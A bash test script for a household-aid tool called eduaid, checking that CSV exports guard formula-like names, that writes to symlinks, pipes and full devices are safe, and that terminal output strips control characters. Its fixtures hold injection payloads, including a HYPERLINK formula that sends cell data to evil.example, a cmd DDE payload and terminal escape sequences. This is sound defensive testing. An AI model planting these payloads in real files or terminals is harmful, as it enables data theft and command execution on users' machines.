#!/usr/bin/env bash
# tests/db/44_outputs.t: what eduaid writes for other programs (issue 13
# items 2-4) -- the real binary, logged in as the demo users, against the
# database suite's cluster.
#
# Spreadsheet formulas (item 2): households of demo_clerk whose heads are
# named =HYPERLINK(...), +cmd|..., @SUM(1+1), -2+3, and names beginning
# with a TAB or a CR: `eduaid export` in UTF-8 with BOM and in GB18030
# writes each with an apostrophe before it while the family size stays a
# number; --codes and utf-8-nobom write them as they are; `eduaid
# reconcile --csv` guards the names of a roster alike.
# Safe writes (item 3): export, report -o and reconcile --csv to a symlink
# write the file it names (the link stays); export to a named pipe feeds
# its reader every row; export and report to /dev/full (through a symlink
# too) and to a full standard output fail with ENOSPC, exit non-zero,
# never say "rows written", leave no audit row and leave /dev/full a
# device; a report that fails keeps the file that was there.
# Terminals (item 4): reconcile's names reach a terminal (script(1): isatty
# is true) with no ESC, no C1 CSI, no backspace and no bidi override, and
# a pipe with their bytes unchanged; its counts table lines up by cells
# (Chinese headers and township names), and so does the export to a
# terminal.
#
# Run by tests/db/run-db-tests.sh through prove. Fixture households carry
# numbers made from this process's id; the EXIT trap deletes them as the
# superuser (roster imports and audit rows stay, as the tables want).
# Cost: about 40 s (two cores shared).
set -u

here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
: "${top_srcdir:=$(cd "$here/../.." && pwd)}"
bin=${top_builddir:-$top_srcdir}/eduaid

# shellcheck source=lib.sh
if ! . "$top_srcdir/tests/db/lib.sh"; then
	printf '1..1\nnot ok 1 - tests/db/lib.sh loads\n'
	exit 1
fi
export EDUAID_FORMS_DIR=$top_srcdir/forms LC_ALL=C.UTF-8 LANGUAGE=en

T=$(printf %06d $(($$ % 1000000)))
tmp=$(mktemp -d)
cleanup() {
	db_psql_super -c "DELETE FROM eduaid.household WHERE household_no LIKE 'OUT%$T'" \
		>/dev/null 2>&1 || true
	db_psql_super -c "DELETE FROM eduaid.roster_row WHERE household_no LIKE 'R_$T'" \
		>/dev/null 2>&1 || true
	db_psql_super -c "ALTER TABLE eduaid.household ENABLE TRIGGER a_tidy" >/dev/null 2>&1 || true
	for c in "${!lifted[@]}"; do
		db_psql_super -c "ALTER TABLE eduaid.${lifted_on[$c]} ADD CONSTRAINT $c ${lifted[$c]}" \
			>/dev/null 2>&1 || true
	done
	db_psql_super -c "REVOKE ALL ON FUNCTION eduaid.schema_level() FROM t44_nobody$T;
	    REVOKE ALL ON SCHEMA eduaid FROM t44_nobody$T;
	    REVOKE ALL ON DATABASE \"$PGDATABASE\" FROM t44_nobody$T; DROP ROLE IF EXISTS t44_nobody$T" \
		>/dev/null 2>&1 || true
	rm -rf -- "$tmp"
}
trap cleanup EXIT
# lift TABLE CONSTRAINT: drop a constraint of eduaid.TABLE for the length of
# this test (cleanup puts it back)
declare -A lifted=() lifted_on=()
lift() {
	lifted_on[$2]=$1
	lifted[$2]=$(db_psql_super -c "SELECT pg_get_constraintdef(oid) FROM pg_constraint
	    WHERE conname = '$2' AND conrelid = 'eduaid.$1'::regclass")
	db_psql_super -c "ALTER TABLE eduaid.$1 DROP CONSTRAINT $2" >/dev/null
}
cd "$tmp" || exit 1
printf 'ui: { language = "en"; };\n' >en.conf
printf 'ui: { language = "zh_CN"; };\n' >zh.conf

# py FILE ENCODING EXPR: EXPR over rows = the records of FILE read by
# python3's csv module; printed.
py() {
	python3 - "$@" <<-'PY'
		import csv, os, sys
		with open(sys.argv[1], encoding=sys.argv[2], newline="") as f:
		    rows = list(csv.reader(f))
		print(eval(sys.argv[3]))
	PY
}
# ex USER ARGS...: eduaid export as USER (English), stderr in ex.err
ex() {
	local user=$1
	shift
	"$bin" -c en.conf -U "$user" export "$@" 2>ex.err
}
audits() { db_psql_super -c "select count(*) from eduaid.audit_log where action = 'export'"; }

# ---- fixtures: demo_clerk's drafts with names that are formulas ------------------
F1='=HYPERLINK("http://evil.example/?x="&A1,"点击核实")'
F2="+cmd|' /C calc'!A0"
F3='@SUM(1+1)'
F4='-2+3'
export F1 F2 F3 F4 FT=$'\tTAB' FR=$'\rCR'
birth=$(db_psql_super -c "select to_char(date '1931-01-01' + ($T % 20000), 'YYYYMMDD')")
# fixture N NAME...: households OUT<N><i>$T of demo_clerk in 城关镇 named
# NAME..., family size 4; 0 or the error on stderr
fixture() {
	local set=$1 vals= i=0
	shift
	for name; do
		i=$((i + 1))
		vals+="${vals:+, }($i, 'OUT$set$i$T', \$n$i\$$name\$n$i\$)"
	done
	db_psql_super >fixture.log 2>&1 <<-SQL
		BEGIN;
		SET SESSION AUTHORIZATION demo_clerk;
		INSERT INTO eduaid.household (township_id, household_no, village_id, head_name,
		                              head_id_number, registered_year, family_size)
		SELECT 420325100, n, (SELECT min(v.id) FROM eduaid.village v WHERE v.township_id = 420325100),
		       name, p || eduaid.id_check_digit(p), 2016, 4
		  FROM (VALUES $vals) AS x(i, n, name),
		       LATERAL (SELECT '659002$birth' || lpad((500 + 10 * $set + i)::text, 3, '0') AS p) AS y;
		COMMIT;
	SQL
}
fixture 1 "$F1" "$F2" "$F3" "$F4" || tap_fail "the fixture households with formula names are made" \
	"$(cat fixture.log)"
# Names with control characters: since 041 the server refuses them
# (48_clean_text.sql) and trims blanks at either end, but a row can still
# predate that (a restore of an old dump, a superuser's psql). Such a row is
# made here by lifting the rule for one column, for the length of this test
# (cleanup puts it back): the outputs must be safe on their own.
lift household household_head_name_clean
db_psql_super -c "ALTER TABLE eduaid.household DISABLE TRIGGER a_tidy" >/dev/null
fixture 2 "$FT" "$FR" || tap_fail "households named with a leading TAB and CR are made" \
	"$(cat fixture.log)"
db_psql_super -c "ALTER TABLE eduaid.household ENABLE TRIGGER a_tidy" >/dev/null

# ---- item 2: formulas in the export ----------------------------------------------
ex demo_clerk household --township 420325100 --status draft plain.csv
tap_is "$?" 0 "demo_clerk exports his drafts (UTF-8 with BOM)"
sel="sorted((r[0], r[3], r[5]) for r in rows[1:] if r[0].startswith('OUT1') and r[0].endswith('$T'))"
want="[('OUT11$T', \"'\" + os.environ['F1'], '4'), ('OUT12$T', \"'\" + os.environ['F2'], '4'), ('OUT13$T', \"'\" + os.environ['F3'], '4'), ('OUT14$T', \"'\" + os.environ['F4'], '4')]"
tap_is "$(py plain.csv utf-8-sig "$sel == $want")" True \
	"=HYPERLINK(...), +cmd|..., @SUM(1+1) and -2+3 as head names get an apostrophe; the family size stays the number 4"
grep -aqF ',=HYPERLINK(' plain.csv || grep -aqF '"=HYPERLINK(' plain.csv
tap_run "... no cell of the file begins with =HYPERLINK" test $? -ne 0
tap_is "$(py plain.csv utf-8-sig "sorted(r[3] for r in rows[1:] if r[0] in ('OUT21$T', 'OUT22$T'))")" \
	"$(python3 -c "print(sorted([\"'\tTAB\", \"'\rCR\"]))")" \
	"names beginning with a TAB or a CR get an apostrophe"
ex demo_clerk household --township 420325100 --status draft --encoding gb18030 gb.csv
tap_is "$(py gb.csv gb18030 "$sel == $want")" True "GB18030: the same apostrophes, the same numbers"
ex demo_clerk household --township 420325100 --status draft --codes codes.csv
tap_is "$(py codes.csv utf-8-sig "[r[1] for r in $sel] == [os.environ[v] for v in ('F1', 'F2', 'F3', 'F4')]")" True \
	"--codes (for re-import): the names as they are"
ex demo_clerk household --township 420325100 --status draft --encoding utf-8-nobom nobom.csv
tap_is "$(py nobom.csv utf-8 "[r[1] for r in $sel] == [os.environ[v] for v in ('F1', 'F2', 'F3', 'F4')]")" True \
	"utf-8-nobom (for programs): the names as they are"

# ---- item 3: where the export goes ------------------------------------------------
echo old >target.csv
ln -s target.csv link.csv
ex demo_clerk household --township 420325100 --status draft link.csv
tap_is "$?:$(cmp -s plain.csv target.csv && echo same):$(test -L link.csv && echo link)" "0:same:link" \
	"export to a symlink writes the file it names, and the link stays a link"
mkfifo fifo
cat fifo >got.csv &
reader=$!
ex demo_clerk household --township 420325100 --status draft fifo
rc=$?
# a reader still waiting (nothing opened the pipe to write) gets its end
# of file; opening a pipe for reading and writing never blocks
exec 3<>fifo
exec 3>&-
wait "$reader"
tap_is "$rc:$(cmp -s plain.csv got.csv && echo same):$(test -p fifo && echo fifo)" "0:same:fifo" \
	"export to a named pipe: its reader gets every row, the pipe stays a pipe"
grep -qF "rows written to $tmp/fifo" ex.err
tap_run "... and the rows written to it are said" test $? -eq 0
a0=$(audits)
ln -s /dev/full full.csv
ex demo_clerk household --township 420325100 --status draft full.csv
rc=$?
tap_is "$rc:$(grep -c 'No space left on device' ex.err):$(grep -c 'rows written' ex.err)" "1:1:0" \
	"export to /dev/full (through a symlink): exit 1, ENOSPC told, never \"rows written\""
tap_is "$(test -c /dev/full && echo device):$(test -L full.csv && echo link)" "device:link" \
	"... /dev/full stays a device, the link a link"
ex demo_clerk household --township 420325100 --status draft /dev/full
tap_is "$?:$(grep -c 'No space left on device' ex.err)" "1:1" "export to /dev/full named as it is: the same"
ex demo_clerk household --township 420325100 --status draft - >/dev/full
tap_is "$?:$(grep -c 'rows written' ex.err)" "1:0" "export to a full standard output: exit 1, never \"rows written\""
tap_is "$(audits)" "$a0" "... and none of the three is in the audit log as an export"

# ---- item 3: report -o --------------------------------------------------------------
rp() { "$bin" -U demo_officer report subsidy --year 2026 "$@" 2>rp.err; }
rp >report.csv
echo old >rtarget.csv
ln -s rtarget.csv rlink.csv
rp -o rlink.csv
tap_is "$?:$(cmp -s report.csv rtarget.csv && echo same):$(test -L rlink.csv && echo link)" "0:same:link" \
	"report -o a symlink writes the file it names, the link stays"
rp -o full.csv
tap_is "$?:$(grep -c 'No space left on device' rp.err):$(test -c /dev/full && echo device)" "2:1:device" \
	"report -o /dev/full (through a symlink): exit 2, ENOSPC told, /dev/full a device still"
rp >/dev/full
tap_is "$?:$(grep -c 'No space left on device' rp.err)" "2:1" "report to a full standard output: exit 2, ENOSPC told"
# a login the reports are not granted to: the report fails after -o
db_psql_super -c "CREATE ROLE t44_nobody$T LOGIN; GRANT USAGE ON SCHEMA eduaid TO t44_nobody$T;
    GRANT CONNECT ON DATABASE \"$PGDATABASE\" TO t44_nobody$T;
    GRANT EXECUTE ON FUNCTION eduaid.schema_level() TO t44_nobody$T" >/dev/null
echo kept >kept.csv
"$bin" -U "t44_nobody$T" report subsidy --year 2026 -o kept.csv 2>rp.err
tap_is "$?:$(cat kept.csv):$(grep -c 'report_subsidy' rp.err)" "2:kept:1" \
	"a report that fails (its function refused) keeps the file that was at -o FILE"
tap_is "$(compgen -G '.kept.csv.*' | wc -l)" 0 "... and leaves no temporary file"

# ---- a roster with hostile names, reconciled -----------------------------------------
idno() { db_psql_super -c "SELECT '$1' || eduaid.id_check_digit('$1')"; }
for k in 1 2 3 4 5 6; do
	H[k]=$(idno "4203251970010$k${T: -3}")
	M[k]=$(idno "4203252015010$k${T: -3}")
done
ESCNAME=$'\e]0;pwned\a李四'
C1NAME=$'a\xc2\x9b2J\b\bb'
BIDINAME=$'\xe2\x80\xaecba'
# row K NAME: household R<K>$T headed by NAME (CSV-quoted), one member
row() {
	local q=${2//\"/\"\"}
	echo "R$1$T,420325100,420325100001,\"$q\",${H[$1]},2,学生$1,${M[$1]},child,primary"
}
{
	echo "household_no,township,village,head_name,head_id_number,family_size,member_name,member_id_number,relation,stage"
	row 1 "$F1"
	row 2 "$F2"
	row 3 "$F3"
	row 4 "$F4"
	row 5 "户主五"
	row 6 "户主六"
} >roster.csv
"$bin" -U demo_clerk import roster roster.csv >import.out 2>import.err
imp=$(sed -n 's/^import //p' import.out)
if [[ -z $imp ]]; then
	tap_fail "the roster with formula names imports" "$(cat import.err)"
	imp=0
fi
# Control characters are refused at import since 041 (48_clean_text.sql);
# rows of an import made before are what this part needs: lifted and set.
lift roster_row roster_row_head_name_clean
db_psql_super -v esc="$ESCNAME" -v c16="$C1NAME$BIDINAME" >fixture.log 2>&1 <<-SQL ||
	UPDATE eduaid.roster_row SET head_name = CASE household_no WHEN 'R5$T' THEN :'esc' ELSE :'c16' END
	 WHERE import_id = $imp AND household_no IN ('R5$T', 'R6$T');
SQL
	tap_fail "the roster rows of an old import hold control characters" "$(cat fixture.log)"
"$bin" -U demo_clerk reconcile "$imp" --csv rec.csv >rec.out 2>rec.err
tap_is "$?" 1 "reconcile finds the roster's households missing from eduaid (exit 1)"
tap_is "$(py rec.csv utf-8-sig "sorted(r[4] for r in rows[1:] if r[3] in ('R1$T', 'R2$T', 'R3$T', 'R4$T'))")" \
	"$(python3 -c "import os; print(sorted(\"'\" + v for v in (os.environ['F1'], os.environ['F2'], os.environ['F3'], os.environ['F4'])))")" \
	"reconcile --csv: the roster's formula names get an apostrophe"
"$bin" -U demo_clerk reconcile "$imp" --csv rec8.csv --encoding utf-8-nobom >/dev/null 2>&1
tap_is "$(py rec8.csv utf-8 "sorted(r[4] for r in rows[1:] if r[3] in ('R1$T', 'R2$T', 'R3$T', 'R4$T'))")" \
	"$(python3 -c "import os; print(sorted(os.environ[v] for v in ('F1', 'F2', 'F3', 'F4')))")" \
	"reconcile --csv --encoding utf-8-nobom: as they are"
echo old >ctarget.csv
ln -s ctarget.csv clink.csv
"$bin" -U demo_clerk reconcile "$imp" --csv clink.csv >/dev/null 2>&1
tap_is "$(cmp -s rec.csv ctarget.csv && echo same):$(test -L clink.csv && echo link)" "same:link" \
	"reconcile --csv to a symlink writes the file it names, the link stays"

# ---- item 4: a terminal ----------------------------------------------------------------
# a pipe gets the bytes as they are
nesc=$(grep -c -aF "$ESCNAME" rec.out)
tap_is "$((nesc > 0)):$(($(grep -c -aF "$C1NAME$BIDINAME" rec.out) > 0))" "1:1" \
	"to a pipe, reconcile writes the names' bytes as they are ($nesc lines name $(printf %q "$ESCNAME"))"
# tty CMD...: CMD's output on a terminal (script(1)), the line ends as sent
tty_run() {
	script -qec "$*" /dev/null </dev/null | tr -d '\r'
}
tty_run "'$bin' -U demo_clerk reconcile $imp" >tty.out
bad=$(LC_ALL=C grep -c -aP '\x1b|\xc2\x9b|\x08|\xe2\x80\xae|\x07' tty.out)
tap_is "$bad:$(grep -c -aF "]0;pwned" tty.out)" "0:$nesc" \
	"to a terminal: no ESC, BEL, C1 CSI, backspace or bidi override; the names shown (]0;pwned as text)"
tap_is "$(grep -c -aF $'\xef\xbf\xbd]0;pwned\xef\xbf\xbd李四' tty.out)" "$nesc" \
	"... each control shown as the screens show it, one U+FFFD"
# the counts table: every '|' of a line at the same cell, in Chinese
cells_of_bars() {
	python3 -c '
import sys, unicodedata
for line in sys.stdin:
    if " | " not in line: continue
    w, pos = 0, []
    for ch in line.rstrip("\n"):
        if ch == "|": pos.append(w)
        w += 2 if unicodedata.east_asian_width(ch) in "WF" else 1
    print(pos)'
}
# the build's catalogue, laid out as an installed one (tests/unit/cli_language.sh)
for g in "${top_builddir:-$top_srcdir}/po/zh_CN.gmo" "$top_srcdir/po/zh_CN.gmo"; do
	if [[ -f $g ]]; then
		mkdir -p locale/zh_CN/LC_MESSAGES && cp "$g" locale/zh_CN/LC_MESSAGES/eduaid.mo
		break
	fi
done
zh="LC_ALL=zh_CN.UTF-8 LANGUAGE=zh_CN EDUAID_LOCALEDIR=$tmp/locale"
tty_run "$zh '$bin' -U demo_clerk reconcile $imp" >tty-zh.out
tap_is "$(cells_of_bars <tty-zh.out | sort -u | wc -l):$(($(cells_of_bars <tty-zh.out | wc -l) >= 2))" "1:1" \
	"reconcile's counts in Chinese: the header and 城关镇's line put each '|' at the same cell"
tap_diag "$(grep -a ' | ' tty-zh.out)"
env $zh "$bin" -U demo_clerk reconcile "$imp" >pipe-zh.out 2>&1
tap_is "$(cells_of_bars <pipe-zh.out | sort -u | wc -l)" 1 "... and so in a pipe"
tty_run "LC_ALL=zh_CN.GB18030 LANGUAGE=zh_CN EDUAID_LOCALEDIR=$tmp/locale '$bin' -U demo_clerk reconcile $imp" >tty-gb.out
tap_is "$(LC_ALL=C grep -c -aP '\x1b|\x08|\x07' tty-gb.out):$(iconv -f GB18030 -t UTF-8 tty-gb.out | grep -c -aF ']0;pwned')" "0:$nesc" \
	"a zh_CN.GB18030 terminal: the same names, in GB18030, no ESC, BEL or backspace"
tty_run "'$bin' -c en.conf -U demo_clerk export household --township 420325100 --status draft -" >tty-ex.out
tap_is "$(grep -c -aF $'\tTAB' tty-ex.out):$(grep -c -aF $'\xef\xbf\xbdTAB' tty-ex.out):$(grep -c -aF 'OUT11' tty-ex.out)" "0:1:1" \
	"export to a terminal: a name's TAB reaches it as U+FFFD, as the screens show it"

tap_done
